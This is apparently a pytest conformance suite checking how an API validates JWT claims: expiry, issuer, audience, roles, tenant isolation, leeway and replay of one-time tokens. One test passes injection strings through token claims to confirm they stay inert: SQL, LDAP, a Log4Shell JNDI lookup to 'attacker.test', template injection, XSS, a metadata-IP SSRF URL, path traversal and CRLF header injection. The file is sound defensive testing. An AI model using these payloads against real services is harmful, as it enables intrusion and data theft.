"""Group F: what tokens may say, and what comes of it."""

import json
from itertools import count
from typing import Any

import pytest

from tests.conformance.conftest import GLOBEX, ONCE, Api
from tests.conformance.expect import FORBIDDEN, refused, served
from tests.support import tokens
from tests.support.tokens import ABSENT, NOW, Clock, claims, forge, key, mint

LEEWAY = 5
SERIAL = count()
HEADER = {"alg": "ES256", "typ": "at+jwt", "kid": "ES256-main"}


@pytest.mark.parametrize("age", [NOW, NOW - 1, 3600, LEEWAY, NOW + 1, 1e300], ids=lambda age: "age")
def test_F1_expired(api: Api, age: float) -> None:
    """Long ago or just now."""
    refused(api.get("/me", mint(exp=NOW - age)))


@pytest.mark.parametrize("name", ["exp", "iss", "aud", "sub", "client_id", "iat", "jti"])
def test_F2_F7_F8_F10_a_claim_missing(api: Api, name: str) -> None:
    """Each of the seven that RFC 9068 requires."""
    refused(api.get("/me", mint({name: ABSENT})))


@pytest.mark.parametrize("name", ["exp", "nbf", "iat"])
@pytest.mark.parametrize("value", [None, True, False, "", "1795494350", "1e12", [], {}, [NOW]])
def test_F3_times_of_another_type(api: Api, name: str, value: object) -> None:
    """Booleans and digits in quotes are no numbers."""
    refused(api.get("/me", mint({name: value})))


@pytest.mark.parametrize("raw", ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "0x7fffffff"])
def test_F3_times_that_are_no_json(api: Api, raw: str) -> None:
    """What some readers take for numbers."""
    body = json.dumps(claims(exp=777_777)).replace("777777", raw).encode()
    refused(api.get("/me", forge(HEADER, body, signing_key=key())))


@pytest.mark.parametrize("ahead", [LEEWAY + 1, 3600, 1e300])
def test_F4_F5_times_in_the_future(api: Api, ahead: float) -> None:
    """Not valid yet, or issued or authenticated in time to come."""
    for name in ("nbf", "iat", "auth_time"):
        refused(api.get("/me", mint({name: NOW + ahead})))


@pytest.mark.parametrize("fraction", [0, 0.5])
def test_F6_the_leeway_is_exact(api: Api, clock: Clock, fraction: float) -> None:
    """One second on either side, and the moment itself, cached or not."""
    token = mint(nbf=NOW + 100 + fraction, exp=NOW + 200 + fraction, jti=f"f6-{fraction}")
    for offset, good in [
        (100 - LEEWAY - 1, False),
        (100 - LEEWAY - 0.001, False),
        (100 - LEEWAY, True),
        (150, True),
        (200 + LEEWAY - 0.001, True),
        (200 + LEEWAY, False),
        (200 + LEEWAY + 1, False),
        (150, True),
    ]:
        clock.now = NOW + offset + fraction
        response = api.get("/me", token)
        served(response) if good else refused(response)


@pytest.mark.parametrize(
    "iss",
    [
        "",
        "https://other.test",
        f"{tokens.ISSUER}/",
        tokens.ISSUER[:-1],
        tokens.ISSUER.upper(),
        f" {tokens.ISSUER}",
        [tokens.ISSUER],
        None,
        {"": tokens.ISSUER},
    ],
)
def test_F7_other_and_partial_issuers(api: Api, iss: object) -> None:
    """Compared whole (CVE-2024-53861)."""
    refused(api.get("/me", mint(iss=iss)))


@pytest.mark.parametrize(
    "aud",
    [
        "",
        "https://other.test",
        tokens.AUDIENCE[:-1],
        f"{tokens.AUDIENCE}/",
        f"{tokens.AUDIENCE} x",
        tokens.AUDIENCE.upper(),
        [],
        ["x"],
        [tokens.AUDIENCE, 5],
        [tokens.AUDIENCE, None],
        [[tokens.AUDIENCE]],
        {tokens.AUDIENCE: 1},
        None,
        True,
    ],
)
def test_F9_other_audiences(api: Api, aud: object) -> None:
    """Substrings and mixed types are not us."""
    refused(api.get("/me", mint(aud=aud)))


def test_F9_several_audiences(api: Api) -> None:
    """One of them is enough."""
    served(api.get("/me", mint(aud=["x", tokens.AUDIENCE])))


def test_F10_no_subject(api: Api) -> None:
    """Nobody is no caller."""
    refused(api.get("/me", mint(sub="")))


def test_F10_a_client_for_its_subject(api: Api) -> None:
    """Client credentials, which an issuer of people alone does not give: somebody chose that id."""
    served(api.get("/me", mint(sub="client-1")), "client-1")
    for client in ({"client_id": "eve"}, {"client_id": "eve", "azp": "eve"}):
        changes = {"iss": ONCE, "sub": "eve", "jti": f"f10-{next(SERIAL)}", **client}
        refused(api.get("/me", mint(changes, name="once")))


@pytest.mark.parametrize("payload", [[], [claims()], "x", 5, None, True, b"", b"{", b"null "])
def test_F11_payloads_that_are_no_objects(api: Api, payload: Any) -> None:
    """Rightly signed arrays and scalars."""
    refused(api.get("/me", forge(HEADER, payload, signing_key=key())))


@pytest.mark.parametrize(
    "roles",
    [
        [],
        ["viewer"],
        ["Analyst"],
        ["ANALYST"],
        ["analyst "],
        [" analyst"],
        ["analyst\u0000"],
        ["\u0430nalyst"],
        ["analysts"],
        ["viewer,analyst"],
        ["viewer analyst"],
        "analyst",
        "admin",
        "viewer analyst",
    ],
)
def test_F12_insufficient_and_look_alike_roles(api: Api, roles: object) -> None:
    """A role in other letters, or in text where a list belongs, is no role."""
    refused(api.get("/reports", mint(roles=roles)), FORBIDDEN)


@pytest.mark.parametrize("roles", [{"analyst": True}, [["analyst"]], ["analyst", {"a": 1}], [[]]])
def test_F12_nested_roles_are_none(api: Api, roles: object) -> None:
    """They resemble roles, and give nothing; who asks for none is served."""
    refused(api.get("/reports", mint(roles=roles)), FORBIDDEN)
    served(api.get("/me", mint(roles=roles)))


@pytest.mark.parametrize("roles", [None, 5, True, ["analyst", 5], ["analyst", None]])
def test_F12_roles_of_another_type(api: Api, roles: object) -> None:
    """Neither text nor a list of text: the token is not understood."""
    refused(api.get("/reports", mint(roles=roles)))


@pytest.mark.parametrize(
    "nested", [{"roles": {"roles": ["admin"]}}, {"realm_access": {"roles": ["admin"]}}]
)
def test_F12_roles_in_another_place(api: Api, nested: dict[str, object]) -> None:
    """Only where the configuration says."""
    assert api.get("/reports", mint(nested)).status in (401, 403)


@pytest.mark.parametrize("tenant", ["globex", "ACME", "acme ", "acme/", "*", "acme,globex", ABSENT])
def test_F13_tenant_mismatch(api: Api, tenant: object) -> None:
    """The tenant of the token and that of the path are one."""
    refused(api.get("/tenants/acme/invoices", mint(tenant=tenant)), FORBIDDEN)


@pytest.mark.parametrize("tenant", [None, "", 5, [], ["acme"], {"acme": 1}])
def test_F13_tenants_of_another_type(api: Api, tenant: object) -> None:
    """A list that holds the tenant is not the tenant."""
    refused(api.get("/tenants/acme/invoices", mint(tenant=tenant)))


@pytest.mark.parametrize("tenant", ["globex", ABSENT])
def test_F13_an_issuer_speaks_for_its_own_tenant(api: Api, tenant: object) -> None:
    """Whether it names it or not."""
    token = mint(iss=GLOBEX, tenant=tenant, name="globex")
    served(api.get("/tenants/globex/invoices", token))
    refused(api.get("/tenants/acme/invoices", token), FORBIDDEN)


@pytest.mark.parametrize("tenant", ["acme", "GLOBEX", "globex ", "", None, 5, ["globex"]])
def test_F13_an_issuer_speaks_for_no_other_tenant(api: Api, tenant: object) -> None:
    """A customer's identity provider that names another customer is not believed at all."""
    for path in ("/me", "/tenants/acme/invoices", "/tenants/globex/invoices"):
        refused(api.get(path, mint(iss=GLOBEX, tenant=tenant, name="globex")))


@pytest.mark.parametrize(
    "text",
    [
        "' OR 1=1 --",
        "*)(uid=*",
        "${jndi:ldap://attacker.test/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "http://169.254.169.254/",
        "../../etc/passwd",
        "line\r\nSet-Cookie: a=b",
    ],
)
def test_F14_claims_are_inert(api: Api, text: str) -> None:
    """They come through as they are, and do nothing."""
    facts = {"sub": text, "jti": text, "roles": [text], "scope": text, "tenant": text}
    token = mint({**facts, "name": text, text: text})
    response = api.get("/me", token)
    served(response, text)
    assert response.header("set-cookie") is None
    refused(api.get("/reports", token), FORBIDDEN)


def test_F16_another_client(api: Api) -> None:
    """Where clients are named, only they; and `azp` agrees with `client_id`."""
    refused(api.get("/me", mint(client_id="client-2")))
    refused(api.get("/me", mint(azp="client-2")))
    served(api.get("/me", mint(azp="client-1")))


def test_F15_one_time_token_replayed(api: Api) -> None:
    """Where an issuer's tokens are good for one request, the second is refused, cached or not."""
    token = mint({"iss": ONCE}, name="once", jti=f"once-{next(SERIAL)}")
    served(api.get("/me", token))
    refused(api.get("/me", token))
    served(api.get("/me", mint({"iss": ONCE}, name="once", jti=f"once-{next(SERIAL)}")))


@pytest.mark.parametrize("expires_at", [1e16, 1e306])
def test_F15_a_one_time_token_that_expires_never(api: Api, expires_at: float) -> None:
    """Whatever number a trusted issuer writes, there is an answer, and a second one."""
    token = mint({"iss": ONCE}, name="once", jti=f"once-{next(SERIAL)}", exp=expires_at)
    served(api.get("/me", token))
    refused(api.get("/me", token))


def test_F15_without_a_jti_nothing_is_known(api: Api) -> None:
    """A one-time token without `jti` could be replayed, so it is refused at once."""
    refused(api.get("/me", mint({"iss": ONCE}, name="once", jti=ABSENT)))


def test_F5_a_token_issued_long_ago(api: Api) -> None:
    """A day is what a token may be old, however late it expires."""
    served(api.get("/me", mint(iat=NOW - 86_000)))
    refused(api.get("/me", mint(iat=NOW - 86_400 - LEEWAY)))
